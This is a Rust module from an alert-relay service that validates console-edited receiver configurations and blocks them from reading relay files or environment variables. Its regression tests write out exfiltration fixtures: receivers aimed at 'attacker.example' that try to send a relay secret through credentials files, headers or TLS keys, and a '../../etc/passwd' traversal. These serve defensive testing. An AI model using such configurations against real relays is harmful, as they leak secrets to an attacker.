//! Receivers managed in the console: a second YAML file (`--config.console-file`) of the same
//! `receivers:` schema, validated by the same code as the config file's, against the defaults
//! and shared templates of the config file's `delivery:` and `templates:`.
//!
//! The config file stays the source of truth: a name defined in both is an error recorded in
//! [`ConsoleConfig::conflicts`], and the config file's receiver is the one used.
//!
//! What a console user types must not be able to read the relay: the console file is never
//! expanded from the process environment (`${VAR}` is kept as written), and its validation reads
//! no file at all — whatever the key — unless it lies under `console.allowed_file_dirs`
//! ([`ConsolePolicy`]): TLS material is given inline as PEM, secrets typed in.
//!
//! Only parsing and validation live here, beside the config file's (the reloader and
//! `check-config` validate both files together); the console file as an editable document, its
//! secret fields and its I/O for the HTTP handlers are `crate::editor`'s.

use std::path::{Path, PathBuf};

use super::raw::RawConsoleFile;
use super::{Config, ConfigError, DeliveryConfig, Environment, Issue, ReceiverConfig};
use crate::fingerprint::fnv1a;

/// The console file's name in the spool's folder, when no `--config.console-file` is given.
pub const DEFAULT_CONSOLE_FILE: &str = "console-receivers.yml";

/// Where console-managed receivers are kept, or why editing in the console is off.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConsoleFile {
    At(PathBuf),
    /// The file is read (its receivers run) but cannot be written; the reason.
    ReadOnly(PathBuf, String),
    /// No console file: editing is off; the reason, for the console and the status API.
    Off(String),
}

impl ConsoleFile {
    /// The file, when there is one.
    pub fn path(&self) -> Option<&Path> {
        match self {
            ConsoleFile::At(path) | ConsoleFile::ReadOnly(path, _) => Some(path),
            ConsoleFile::Off(_) => None,
        }
    }

    /// Why the console cannot edit receivers, when it cannot.
    pub fn editing_off(&self) -> Option<&str> {
        match self {
            ConsoleFile::At(_) => None,
            ConsoleFile::ReadOnly(_, why) | ConsoleFile::Off(why) => Some(why),
        }
    }
}

/// Decides the console file from the flag (`None`: not given; an empty path: `''`, off) and the
/// config's spool: by default `console-receivers.yml` beside the spool, so that it lives on the
/// same persistent volume.
pub fn console_file(flag: Option<&Path>, delivery: &DeliveryConfig) -> ConsoleFile {
    match (flag, &delivery.spool) {
        (Some(path), _) if path.as_os_str().is_empty() => {
            ConsoleFile::Off("editing in the console is turned off (--config.console-file='')".into())
        }
        (Some(path), _) => ConsoleFile::At(path.to_owned()),
        (None, Some(spool)) => {
            let folder = spool.path.parent().map(Path::to_owned).unwrap_or_default();
            ConsoleFile::At(folder.join(DEFAULT_CONSOLE_FILE))
        }
        (None, None) => ConsoleFile::Off(
            "editing in the console is off: no delivery.spool.path to keep console-receivers.yml beside, and no \
             --config.console-file"
                .into(),
        ),
    }
}

/// The validated console file.
#[derive(Debug, Clone)]
pub struct ConsoleConfig {
    pub source: PathBuf,
    /// Hash of the file's bytes (of nothing, when the file does not exist yet).
    pub hash: u64,
    /// Its valid receivers whose names the config file does not use.
    pub receivers: Vec<ReceiverConfig>,
    /// Receivers skipped because the config file defines the same name.
    pub conflicts: Vec<Issue>,
    pub referenced_files: Vec<PathBuf>,
    pub warnings: Vec<Issue>,
}

/// Why a console receiver may not name a file outside `console.allowed_file_dirs`.
const CONSOLE_FILE_REFUSED: &str = "a console receiver reads no file on the relay (what it holds would be sent \
     wherever the receiver points): type the secret itself, give TLS material inline as PEM (ca, cert, key), \
     name a file under console.allowed_file_dirs, or define the receiver in the config file";

/// Reads and validates the console file; a file that does not exist yet has no receivers.
pub fn load_console(path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigError> {
    let fail = |message: String| ConfigError {
        file: path.to_owned(),
        issues: vec![Issue { position: None, field: String::new(), message }],
    };
    let bytes = match std::fs::read(path) {
        Ok(bytes) => bytes,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
        Err(e) => return Err(fail(format!("cannot read file: {e}"))),
    };
    let text = String::from_utf8(bytes).map_err(|_| fail("file is not valid UTF-8".into()))?;
    console_from_str(&text, path, main)
}

/// Parses and validates console-file text as if read from `path`, for the config `main`.
pub fn console_from_str(text: &str, path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigError> {
    let base_dir = path.parent().map(Path::to_owned).unwrap_or_default();
    let environment = Environment::empty();
    // No properties: `${VAR}` is text here, kept as written.
    let raw: RawConsoleFile = if text.trim().is_empty() {
        RawConsoleFile::default()
    } else {
        serde_saphyr::from_str(text).map_err(|e| super::parse_error(path, &e))?
    };
    let mut issues = super::issues::Issues::new(&base_dir, text)
        .reading_only_under(main.console.allowed_file_dirs.clone(), CONSOLE_FILE_REFUSED);
    let mut receivers = super::receiver::receivers(&mut issues, &raw.receivers, &main.receiver_defaults, &environment);
    guard_tenant_receivers(&mut issues, &mut receivers, &raw, main);
    if !issues.list.is_empty() {
        return Err(ConfigError { file: path.to_owned(), issues: issues.list });
    }
    let mut conflicts = Vec::new();
    let mut kept = Vec::with_capacity(receivers.len());
    // No issues: every raw receiver gave one, in order.
    for (index, (receiver, spanned)) in receivers.into_iter().zip(&raw.receivers).enumerate() {
        if main.receivers.iter().any(|r| r.name == receiver.name) {
            let at = &spanned.referenced;
            conflicts.push(Issue {
                position: (at.line() > 0).then(|| (at.line(), at.column())),
                field: format!("receivers[{index}].name"),
                message: format!(
                    "{:?} is also defined in {}: the config file's receiver is used and this one is skipped",
                    receiver.name,
                    main.source.display()
                ),
            });
        } else {
            kept.push(receiver);
        }
    }
    Ok(ConsoleConfig {
        source: path.to_owned(),
        hash: fnv1a(text.as_bytes()),
        receivers: kept,
        conflicts,
        referenced_files: issues.files,
        warnings: issues.warnings,
    })
}

/// Puts `tenancy`'s outbound guard on every tenant receiver of the console file (an editor of
/// that tenant can change it), refusing now a URL or proxy it refuses by name or address
/// literal; names are checked against the addresses connected, at delivery.
fn guard_tenant_receivers(
    issues: &mut super::issues::Issues,
    receivers: &mut [ReceiverConfig],
    raw: &RawConsoleFile,
    main: &Config,
) {
    let Some(tenancy) = &main.server.tenancy else {
        return;
    };
    for receiver in receivers.iter_mut().filter(|r| r.tenant.is_some()) {
        let index = raw.receivers.iter().position(|r| r.value.name == receiver.name).unwrap_or_default();
        let at = &raw.receivers[index].referenced;
        if let Some(why) = tenancy.guard.check_url(&receiver.endpoint.url) {
            issues.add(Some(at), format!("receivers[{index}].url"), why);
        }
        if let Some(why) = receiver.endpoint.proxy.as_ref().and_then(|p| tenancy.guard.check_url(&p.url)) {
            issues.add(Some(at), format!("receivers[{index}].http_config.proxy_url"), why);
        }
        if let super::Auth::OAuth2(oauth2) = &mut receiver.endpoint.auth {
            if let Some(why) = tenancy.guard.check_url(&oauth2.token_url) {
                issues.add(Some(at), format!("receivers[{index}].http_config.oauth2.token_url"), why);
            }
            oauth2.guard = Some(tenancy.guard.clone());
        }
        receiver.endpoint.guard = Some(tenancy.guard.clone());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn main_config(text: &str) -> Config {
        super::super::from_str(text, Path::new("/nonexistent/amrelay.yml"), &Environment::empty()).unwrap()
    }

    const CONSOLE: &str = "/nonexistent/console-receivers.yml";

    #[test]
    fn console_receivers_get_the_config_files_defaults() {
        let main = main_config("delivery: {timeout: 3s, queue_capacity: 7}\nreceivers: []\n");
        let console = console_from_str(
            "receivers:\n  - {name: c, url: 'http://127.0.0.1:1/', enabled: false}\n",
            Path::new(CONSOLE),
            &main,
        )
        .unwrap();
        let receiver = &console.receivers[0];
        assert_eq!((receiver.queue_capacity, receiver.endpoint.timeout.as_secs()), (7, 3));
        assert!(!receiver.enabled);
    }

    /// Regression (review): a console receiver naming a relay file as its bearer token sent that
    /// file's content to the URL the editor chose; `http_headers.<H>.files` slipped past the old
    /// key-name rule, and so did the relay's own mTLS identity (`cert_file`, `key_file`).
    #[test]
    fn console_receivers_read_no_file_on_the_relay_whatever_the_key() {
        let dir = tempfile::tempdir().unwrap();
        let secret = dir.path().join("token");
        std::fs::write(&secret, "relay-secret\n").unwrap();
        let secret = secret.display();
        let main = main_config("receivers: []\n");
        for (text, field) in [
            (
                format!(
                    "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      authorization: {{credentials_file: {secret}}}\n"
                ),
                "receivers[0].http_config.authorization.credentials_file",
            ),
            (format!("receivers:\n  - {{name: c, url_file: {secret}}}\n"), "receivers[0].url_file"),
            (
                format!(
                    "receivers:\n  - {{name: c, url: 'https://x.example/', preset: pagerduty, preset_options: {{routing_key_file: {secret}}}}}\n"
                ),
                "receivers[0].preset_options.routing_key_file",
            ),
            (
                format!(
                    "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      http_headers:\n        X-Stolen: {{files: [{secret}]}}\n"
                ),
                "files",
            ),
            (
                format!(
                    "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config: {{tls_config: {{cert_file: {secret}, key_file: {secret}}}}}\n"
                ),
                "cert_file",
            ),
            (
                format!(
                    "receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config: {{tls_config: {{ca_file: {secret}}}}}\n"
                ),
                "ca_file",
            ),
        ] {
            let error = console_from_str(&text, Path::new(CONSOLE), &main).unwrap_err();
            assert!(error.issues.iter().any(|i| i.field.contains(field)), "{field}: {error}");
            assert!(error.to_string().contains("reads no file on the relay"), "{error}");
            assert!(!error.to_string().contains("relay-secret"), "{error}");
        }
    }

    /// `console.allowed_file_dirs` lets console receivers name files below those folders, and
    /// only there: a link inside pointing outside is refused.
    #[test]
    fn allowed_file_dirs_admit_their_files_and_nothing_linked_out_of_them() {
        let allowed = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(allowed.path().join("token"), "team-token\n").unwrap();
        std::fs::write(outside.path().join("relay"), "relay-secret\n").unwrap();
        std::os::unix::fs::symlink(outside.path().join("relay"), allowed.path().join("link")).unwrap();
        let main = main_config(&format!("console: {{allowed_file_dirs: ['{}']}}\n", allowed.path().display()));
        let with = |file: &str| {
            format!(
                "receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config:\n      authorization: {{credentials_file: {}}}\n",
                allowed.path().join(file).display()
            )
        };
        let console = console_from_str(&with("token"), Path::new(CONSOLE), &main).unwrap();
        assert!(matches!(&console.receivers[0].endpoint.auth, crate::config::Auth::Authorization { .. }));
        let error = console_from_str(&with("link"), Path::new(CONSOLE), &main).unwrap_err();
        assert!(error.to_string().contains("reads no file on the relay"), "{error}");
        let error = console_from_str(&with("../../etc/passwd"), Path::new(CONSOLE), &main).unwrap_err();
        assert!(error.to_string().contains("reads no file on the relay"), "{error}");
    }

    /// Regression (review): a `${…}` in a console value could not be stored (it was read as an
    /// environment variable); it is text, kept as written, and reads no variable.
    #[test]
    fn dollar_braces_in_console_values_are_kept_as_written() {
        let main = main_config("receivers: []\n");
        let text =
            "receivers:\n  - name: c\n    url: 'http://127.0.0.1:1/'\n    headers:\n      X-Template: ${HOME}-$${X}\n";
        let console = console_from_str(text, Path::new(CONSOLE), &main).unwrap();
        let value = console.receivers[0].endpoint.headers[0].1.to_str().unwrap().to_owned();
        assert_eq!(value, "${HOME}-$${X}");
    }

    #[test]
    fn a_name_in_both_files_is_skipped_with_the_error_recorded() {
        let main = main_config("receivers:\n  - {name: ops, url: 'http://127.0.0.1:1/'}\n");
        let text =
            "receivers:\n  - {name: other, url: 'http://127.0.0.1:2/'}\n  - {name: ops, url: 'http://127.0.0.1:3/'}\n";
        let console = console_from_str(text, Path::new(CONSOLE), &main).unwrap();
        assert_eq!(console.receivers.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), ["other"]);
        assert_eq!(console.conflicts.len(), 1);
        assert_eq!(console.conflicts[0].field, "receivers[1].name");
        assert_eq!(console.conflicts[0].position.map(|p| p.0), Some(3));
    }

    #[test]
    fn errors_name_their_fields_as_check_config_does() {
        let main = main_config("receivers: []\n");
        let text = "receivers:\n  - name: c\n    url: 'http://127.0.0.1:1/'\n    conditions:\n      - {label: severity, operator: In, values: []}\n";
        let error = console_from_str(text, Path::new(CONSOLE), &main).unwrap_err();
        assert_eq!(error.issues[0].field, "receivers[0].conditions[0].values", "{error}");
        // Only receivers: the rest of the schema belongs to the config file.
        let error = console_from_str("server: {listen_address: ':1'}\n", Path::new(CONSOLE), &main).unwrap_err();
        assert!(error.to_string().contains("server"), "{error}");
    }

    #[test]
    fn the_file_is_beside_the_spool_unless_a_flag_says_otherwise() {
        let spooled = main_config("delivery: {spool: {path: /var/lib/amrelay/spool.redb}}\n").delivery;
        let memory = main_config("receivers: []\n").delivery;
        assert_eq!(
            console_file(None, &spooled),
            ConsoleFile::At(PathBuf::from("/var/lib/amrelay/console-receivers.yml"))
        );
        assert!(matches!(console_file(None, &memory), ConsoleFile::Off(_)));
        assert!(matches!(console_file(Some(Path::new("")), &spooled), ConsoleFile::Off(_)));
        assert_eq!(console_file(Some(Path::new("/etc/c.yml")), &memory), ConsoleFile::At(PathBuf::from("/etc/c.yml")));
    }
}
